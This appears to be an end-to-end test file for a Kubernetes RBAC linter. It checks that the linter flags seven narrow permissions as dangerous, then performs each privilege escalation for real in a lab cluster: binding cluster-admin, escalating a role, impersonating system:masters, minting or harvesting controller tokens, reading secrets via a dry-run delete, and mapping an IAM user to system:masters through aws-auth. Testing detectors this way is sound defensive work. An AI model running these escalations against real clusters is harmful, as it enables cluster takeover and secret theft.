//! Privilege escalations, taken for real: found first, then done, by tokens of service accounts that hold nothing else.

use std::fs;

use anyhow::{Context as _, ensure};
use base64::{Engine as _, prelude::BASE64_STANDARD};
use e2e::{
    https,
    process::{self, Output, wait_until},
    server::{Server, ServerOptions},
    test_cluster::TestCluster,
    world::{CLUSTER_ID, World},
};
use local_cluster::Binaries;
use serde_json::{Value, json};

use super::{cluster, findings, lint};

/// Names of service accounts in the namespace `lab`, what is found of each, and the rules that they hold everywhere.
const WAYS: [(&str, &str, &str); 7] = [
    (
        "binder",
        "bind",
        "[{apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], resourceNames: [cluster-admin], verbs: [bind]}, {apiGroups: [rbac.authorization.k8s.io], resources: [clusterrolebindings], verbs: [create]}]",
    ),
    (
        "escalator",
        "escalate",
        "[{apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], resourceNames: [lab-escalator], verbs: [get, update, patch, escalate]}]",
    ),
    ("impersonator", "impersonate", "[{apiGroups: [''], resources: [users, groups], verbs: [impersonate]}]"),
    ("minter", "serviceaccount-token", "[{apiGroups: [''], resources: [serviceaccounts/token], verbs: [create]}]"),
    ("keeper", "secrets-write", "[{apiGroups: [''], resources: [secrets], verbs: [create, patch]}]"),
    ("sweeper", "secrets", "[{apiGroups: [''], resources: [secrets], verbs: [deletecollection]}]"),
    (
        "mapper",
        "aws-auth",
        "[{apiGroups: [''], resources: [configmaps], resourceNames: [aws-auth], verbs: [get, patch]}]",
    ),
];

/// Whose token leads to everything (Kubernetes, `clusterroleaggregation`).
const CONTROLLER: &str = "clusterrole-aggregation-controller";

/// The cluster's people by their tokens alone.
struct Lab<'a> {
    world: &'a World,
    managed: &'a TestCluster,
}

pub(super) fn performed(world: &World) -> anyhow::Result<()> {
    let mut objects = String::from(
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: lab}\n---\n\
         apiVersion: v1\nkind: Secret\nmetadata: {name: treasure, namespace: lab}\nstringData: {key: plain-to-see}\n---\n\
         apiVersion: v1\nkind: ConfigMap\nmetadata: {name: aws-auth, namespace: kube-system}\ndata: {mapUsers: '[]'}\n",
    );
    for (name, _, rules) in WAYS {
        objects.push_str(&format!(
            "---\napiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: {name}, namespace: lab}}\n---\n\
             apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {{name: lab-{name}}}\nrules: {rules}\n---\n\
             apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {{name: lab-{name}}}\n\
             roleRef: {{apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: lab-{name}}}\n\
             subjects: [{{kind: ServiceAccount, name: {name}, namespace: lab}}]\n"
        ));
    }
    let managed = cluster(world, "lint-performed", &objects)?;
    let lab = Lab { world, managed: &managed };
    let report = lint(&managed, &[])?;
    for (name, code, _) in WAYS {
        let is_one =
            |one: &&Value| one["code"] == code && one["subject"]["name"] == name && one["severity"] == "danger";
        ensure!(findings(&report)?.iter().any(|one| is_one(&one)), "{code} of {name}: {report:#}");
        // None of them may read a single secret by asking for it, or may do what cluster-admin does.
        let token = lab.token("lab", name)?;
        lab.with(&token, &["get", "secret", "treasure", "-n", "lab"])?.failure()?;
        lab.with(&token, &["delete", "namespace", "default", "--dry-run=server"])?.failure()?;
    }
    lab.bind()?;
    lab.escalate()?;
    lab.impersonate()?;
    lab.mint()?;
    lab.keep()?;
    lab.sweep()?;
    lab.map()
}

impl Lab<'_> {
    /// kubectl with a token and nothing else.
    fn with(&self, token: &str, args: &[&str]) -> anyhow::Result<Output> {
        let folder = &self.managed.folder;
        let ca = folder.join("api-server-ca.pem");
        fs::write(&ca, self.managed.cluster.ca_pem())?;
        let binaries = Binaries::find(std::slice::from_ref(&self.world.parts.kubernetes))?;
        let mut command = process::command(binaries.kubectl()?, folder);
        command.arg(format!("--server={}", self.managed.cluster.server_url()));
        command.arg(format!("--certificate-authority={}", ca.display())).arg(format!("--token={token}"));
        process::run(command.args(args))
    }

    fn token(&self, namespace: &str, account: &str) -> anyhow::Result<String> {
        let token = self.managed.admin.kubectl(&["create", "token", account, "-n", namespace])?.success()?;
        Ok(token.trim().to_owned())
    }

    /// Whether a token now reads the secret and does what only cluster-admin may. Bindings and roles reach the authorizer
    /// by watches.
    fn has_everything(&self, token: &str) -> anyhow::Result<()> {
        wait_until("the holder of the token may do everything", || {
            let treasure = self.with(token, &["get", "secret", "treasure", "-n", "lab", "-o", "json"])?;
            let delete = self.with(token, &["delete", "namespace", "default", "--dry-run=server"])?;
            // The namespace `default` may not be deleted by anybody; being told so is being past authorization.
            Ok(treasure.stdout.contains("cGxhaW4tdG8tc2Vl") && !delete.stderr.contains("cannot delete"))
        })
    }

    fn bind(&self) -> anyhow::Result<()> {
        let token = self.token("lab", "binder")?;
        let account = "--serviceaccount=lab:binder";
        self.with(&token, &["create", "clusterrolebinding", "mine", "--clusterrole=cluster-admin", account])?
            .success()?;
        self.has_everything(&token)
    }

    fn escalate(&self) -> anyhow::Result<()> {
        self.write_everything_into(&self.token("lab", "escalator")?, "lab-escalator")?;
        self.has_everything(&self.token("lab", "escalator")?)
    }

    fn impersonate(&self) -> anyhow::Result<()> {
        let token = self.token("lab", "impersonator")?;
        let args =
            ["get", "secret", "treasure", "-n", "lab", "-o", "json", "--as=whoever", "--as-group=system:masters"];
        let read = self.with(&token, &args)?.success()?;
        ensure!(read.contains("cGxhaW4tdG8tc2Vl"), "{read}");
        Ok(())
    }

    fn mint(&self) -> anyhow::Result<()> {
        let own = self.token("lab", "minter")?;
        let minted = self.with(&own, &["create", "token", CONTROLLER, "-n", "kube-system"])?.success()?;
        self.write_everything_into(minted.trim(), "lab-minter")?;
        self.has_everything(&own)
    }

    /// A secret of the service account type is filled in by a controller, and the answer to a patch that changes nothing is
    /// the secret.
    fn keep(&self) -> anyhow::Result<()> {
        let own = self.token("lab", "keeper")?;
        let secret = json!({
            "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
            "metadata": {"name": "minted", "namespace": "kube-system", "annotations": {"kubernetes.io/service-account.name": CONTROLLER}},
        });
        fs::write(self.managed.folder.join("minted.json"), secret.to_string())?;
        self.with(&own, &["create", "-f", "minted.json"])?.success()?;
        let url = "/api/v1/namespaces/kube-system/secrets/minted";
        let mut minted = None;
        wait_until("the secret is filled in", || {
            let answer = self.request(&own, "PATCH", url)?;
            minted = answer["data"]["token"].as_str().map(str::to_owned);
            Ok(minted.is_some())
        })?;
        let minted = String::from_utf8(BASE64_STANDARD.decode(minted.context("a token")?)?)?;
        self.write_everything_into(&minted, "lab-keeper")?;
        self.has_everything(&own)
    }

    /// The answer to a deletion that is only tried is what would have been deleted.
    fn sweep(&self) -> anyhow::Result<()> {
        let own = self.token("lab", "sweeper")?;
        let answer = self.request(&own, "DELETE", "/api/v1/namespaces/lab/secrets?dryRun=All")?;
        ensure!(answer.to_string().contains("cGxhaW4tdG8tc2Vl"), "{answer}");
        let still = self.managed.admin.kubectl(&["get", "secret", "treasure", "-n", "lab"])?;
        ensure!(still.code == 0, "it was only tried: {still:?}");
        Ok(())
    }

    /// Whoever writes aws-auth is whoever they like, to the server that reads it.
    fn map(&self) -> anyhow::Result<()> {
        let own = self.token("lab", "mapper")?;
        let entry = r#"{"data": {"mapUsers": "[{userarn: arn:aws:iam::111122223333:user/mallory, username: m, groups: [system:masters]}]"}}"#;
        self.with(&own, &["patch", "configmap", "aws-auth", "-n", "kube-system", "--type=merge", "-p", entry])?
            .success()?;
        let map = ["get", "configmap", "aws-auth", "-n", "kube-system", "-o", "json"];
        let map: Value = serde_json::from_str(&self.managed.admin.kubectl(&map)?.success()?)?;
        let mappings = format!("  mapUsers: {}\n", map["data"]["mapUsers"].as_str().context("mapUsers")?);
        let options = ServerOptions { cluster_id: CLUSTER_ID, mappings: &mappings, args: &[] };
        let folder = self.world.folder("lint-server")?;
        let server = Server::start(&self.world.parts, &self.world.sts, &folder, &options)?;
        let answer = server.review(&self.world.fresh_token("mallory", CLUSTER_ID)?)?;
        let review: Value = serde_json::from_str(&answer.body)?;
        ensure!(review["status"]["user"]["groups"] == json!(["system:masters"]), "{review}");
        let report = lint(self.managed, &[])?;
        let is_master = |one: &Value| one["code"] == "masters" && one["principals"][0]["name"] == "mallory";
        ensure!(findings(&report)?.iter().any(is_master), "{report:#}");
        Ok(())
    }

    fn write_everything_into(&self, token: &str, role: &str) -> anyhow::Result<()> {
        let rules = r#"{"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}"#;
        self.with(token, &["patch", "clusterrole", role, "--type=merge", "-p", rules])?.success()?;
        Ok(())
    }

    /// A request that kubectl does not make without reading first.
    fn request(&self, token: &str, method: &str, path: &str) -> anyhow::Result<Value> {
        let cluster = &self.managed.cluster;
        let port = cluster.server_url().rsplit(':').next().context("a port")?.trim_end_matches('/').parse()?;
        let headers = [&*format!("Authorization: Bearer {token}"), "Content-Type: application/merge-patch+json"];
        let body = if method == "PATCH" { "{}" } else { "" };
        let answer = https::request_with(cluster.ca_pem(), port, method, path, &headers, body)?;
        ensure!(answer.status == 200, "{answer:?}");
        Ok(serde_json::from_str(&answer.body)?)
    }
}
